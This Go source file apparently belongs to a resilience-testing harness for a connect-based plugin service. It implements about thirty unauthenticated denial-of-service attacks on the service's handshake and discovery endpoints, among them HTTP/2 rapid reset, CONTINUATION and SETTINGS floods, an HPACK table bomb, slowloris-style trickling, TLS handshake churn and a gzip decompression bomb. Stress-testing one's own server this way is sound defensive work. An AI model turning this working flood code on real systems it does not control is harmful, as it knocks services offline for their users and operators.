//nolint:wrapcheck // errors of the framer end an attack, and nobody looks at them
package kinds

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"net"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

const (
	pingFlood     = "PING flood"
	handshakePath = "/connectplugin.v1.HandshakeService/Handshake"
	discoverPath  = "/connectplugin.v1.ServiceRegistry/DiscoverService"

	unknownType = 0xee // of frames
	drip        = 20 * time.Millisecond
	trickling   = 100      // streams
	manyIdle    = 2_000    // sockets
	maxFrame    = 16_384   // bytes
	bombSize    = 64 << 20 // bytes, before it is compressed
	connecting  = 4        // at once
	repeats     = 4_000    // of one entry of the table in a header block
	entry       = 3_900    // bytes
	idleStreams = 10_000
	literalLen  = 0x7e
	settingsOf  = 64 // entries of one frame
)

// strangers are attacks of somebody who holds nothing.
func strangers() []Kind {
	list := []Kind{
		{Name: "rapid reset", run: flood(rapidReset(discoverPath))},
		{Name: "requests that are refused", run: flood(request(discoverPath, nil))},
		{Name: "CONTINUATION flood", run: flood(continuation)},
		{Name: "SETTINGS flood", run: flood(func(c *conn, _ uint32) error { return c.WriteSettings() })},
		{Name: "SETTINGS of many entries", run: flood(manySettings)},
		{Name: pingFlood, run: flood(func(c *conn, _ uint32) error { return c.WritePing(false, [8]byte{}) })},
		{Name: "empty DATA flood", run: flood(emptyData)},
		{Name: "DATA of a stream that has ended", run: flood(stray(maxFrame))},
		{Name: "DATA of a stream that has ended, small", run: flood(stray(1))},
		{Name: "PRIORITY flood", run: flood(func(c *conn, i uint32) error {
			return c.WritePriority(2*i+1, http2.PriorityParam{Weight: 1})
		})},
		{Name: "header flood", run: flood(bigHeaders)},
		{Name: "HPACK: one entry, many times", run: flood(hpackBomb)},
		{Name: "HPACK: one entry, many times, in bad heads", run: severally(flood(badHeads))},
		{Name: "probes of many fields, paced", run: severally(flood(paced(longProbes)))},
		{Name: "probes that pay for bad heads", run: flood(paidHeads)},
		{Name: "WINDOW_UPDATE flood", run: flood(func(c *conn, _ uint32) error { return c.WriteWindowUpdate(0, 1) })},
		{Name: "frames of unknown types", run: flood(func(c *conn, _ uint32) error { return c.WriteRawFrame(unknownType, 0, 0, nil) })},
		{Name: "zero windows", run: flood(request("/healthz", nil), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})},
		{Name: "answers that are not read", run: notRead(discoverPath)},
		{Name: "idle streams", run: idle(handshakePath)},
		{Name: "trickled headers", run: slowly(drip, trickledHeaders)},
		{Name: "trickled bodies", run: slowly(drip, trickledBodies(handshakePath))},
		{Name: "sockets that agree on no TLS", run: idleSockets},
		{Name: "TLS handshakes", run: connections},
		{Name: "certificates that many could have issued", run: chains(longChain)},
		{Name: "certificates of one key that each could have issued", run: chains(sameChain)},
		{Name: "compressed bombs", run: bombs},
		{Name: "handshakes of many fields that stay incomplete", run: severally(keptHandshakes)},
		{Name: "handshakes without a proof", run: flood(request(handshakePath, []byte{0x08, 0x01}))},
	}
	for i := range list {
		list[i].Who = Stranger
	}
	return list
}

// cached is the header block of a connection's requests, made once. Blocks that are indexed
// already stay small.
func (c *conn) cached(path string, more ...string) []byte {
	return c.head(path, more...)
}

func rapidReset(path string, more ...string) func(c *conn, i uint32) error {
	return func(c *conn, _ uint32) error {
		id, err := c.open(c.cached(path, more...), true)
		if err != nil {
			return err
		}
		return c.WriteRSTStream(id, http2.ErrCodeCancel)
	}
}

// request makes whole requests without waiting for answers.
func request(path string, body []byte, more ...string) func(c *conn, i uint32) error {
	return func(c *conn, _ uint32) error {
		id, err := c.open(c.cached(path, more...), body == nil)
		if err != nil || body == nil {
			return err
		}
		return c.WriteData(id, true, body)
	}
}

func continuation(c *conn, i uint32) error {
	if i == 0 {
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.head("/")})
	}
	c.block.Reset()
	c.block.WriteByte(0) // a literal that is not indexed
	c.block.WriteByte(1)
	c.block.WriteByte('a')
	c.block.WriteByte(literalLen)
	c.block.Write(make([]byte, literalLen))
	return c.WriteContinuation(1, false, c.block.Bytes())
}

func manySettings(c *conn, i uint32) error {
	list := make([]http2.Setting, settingsOf)
	for n := range list {
		list[n] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: i + 1}
	}
	return c.WriteSettings(list...)
}

func emptyData(c *conn, i uint32) error {
	if i == 0 {
		_, err := c.open(c.head(handshakePath), false)
		return err
	}
	return c.WriteData(1, false, nil)
}

// stray goes on with the body of a request that was complete.
func stray(length int) func(c *conn, i uint32) error {
	return func(c *conn, i uint32) error {
		if i == 0 {
			_, err := c.open(c.head(discoverPath), true)
			return err
		}
		return c.WriteData(1, false, make([]byte, length))
	}
}

func bigHeaders(c *conn, i uint32) error {
	name := strconv.Itoa(int(i))
	_, err := c.open(c.head(discoverPath, "x-"+name, strings.Repeat(name[:1], maxFrame/2)), true)
	return err
}

// hpackBomb names an entry of the host's table again and again, a byte each.
func hpackBomb(c *conn, i uint32) error {
	if i == 0 {
		_, err := c.open(c.head(discoverPath, "x", strings.Repeat("x", entry)), true)
		return err
	}
	const newest = 62 | 0x80 // the first index of the dynamic table
	_, err := c.open(bytes.Repeat([]byte{newest}, repeats), true)
	return err
}

// notRead sends requests and never reads, not even from the socket.
func notRead(path string, more ...string) func(context.Context, *attack) error {
	return func(ctx context.Context, a *attack) error {
		c, err := a.connect(ctx, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
		if err != nil {
			return err
		}
		defer c.close()
		stop := context.AfterFunc(ctx, func() { _ = c.tls.SetWriteDeadline(time.Now()) })
		defer stop()
		for {
			if err := c.more(); err != nil {
				return err
			}
			if _, err := c.open(c.cached(path, more...), true); err != nil {
				if ctx.Err() == nil {
					a.ended("")
				}
				return errGone
			}
		}
	}
}

// idle opens streams that never go on.
func idle(path string, more ...string) func(context.Context, *attack) error {
	return func(ctx context.Context, a *attack) error {
		c, err := a.connect(ctx, true)
		if err != nil {
			return err
		}
		defer c.close()
		for range idleStreams {
			if err := c.more(); err != nil {
				return err
			}
			if _, err := c.open(c.cached(path, more...), false); err != nil {
				return c.lost(err)
			}
		}
		return c.linger()
	}
}

func trickledHeaders(c *conn, i uint32) error {
	if i == 0 {
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.head("/")})
	}
	return c.WriteRawFrame(http2.FrameContinuation, 0, 1, nil)
}

func trickledBodies(path string, more ...string) func(c *conn, i uint32) error {
	return func(c *conn, i uint32) error {
		if i < trickling {
			_, err := c.open(c.head(path, more...), false)
			return err
		}
		return c.WriteData(2*(i%trickling)+1, false, []byte{0})
	}
}

func idleSockets(ctx context.Context, a *attack) error {
	open := make([]net.Conn, 0, manyIdle)
	defer func() {
		for _, c := range open {
			_ = c.Close()
		}
	}()
	for range manyIdle {
		c, err := a.dial(ctx)
		if err != nil {
			return err
		}
		a.sent.Add(1)
		open = append(open, c)
	}
	_ = open[0].SetReadDeadline(time.Now().Add(MostTime))
	stop := context.AfterFunc(ctx, func() { _ = open[0].SetReadDeadline(time.Now()) })
	defer stop()
	if _, err := open[0].Read(make([]byte, 1)); err != nil && ctx.Err() == nil {
		a.ended("")
	}
	<-ctx.Done()
	return nil
}

// connections makes connections as fast as they go, and ends them.
func connections(ctx context.Context, a *attack) error {
	var working sync.WaitGroup
	for range connecting {
		working.Go(func() {
			for ctx.Err() == nil && a.sent.Add(1) < mostFrames {
				c, err := a.connect(ctx, false)
				if err != nil {
					a.refused.Add(1)
					continue
				}
				c.close()
			}
		})
	}
	working.Wait()
	return nil
}

// bombs are requests whose bodies are small and become large.
func bombs(ctx context.Context, a *attack) error {
	body := bomb()
	return flood(func(c *conn, _ uint32) error {
		id, err := c.open(c.head(handshakePath, "content-encoding", "gzip"), false)
		for rest := body; err == nil && len(rest) > 0; {
			n := min(len(rest), maxFrame)
			err = c.WriteData(id, n == len(rest), rest[:n])
			rest = rest[n:]
		}
		if err == nil {
			err = c.flush()
		}
		return err
	})(ctx, a)
}

var bomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, err := w.Write(make([]byte, bombSize))
	if err = errors.Join(err, w.Close()); err != nil {
		panic(err)
	}
	return b.Bytes()
})
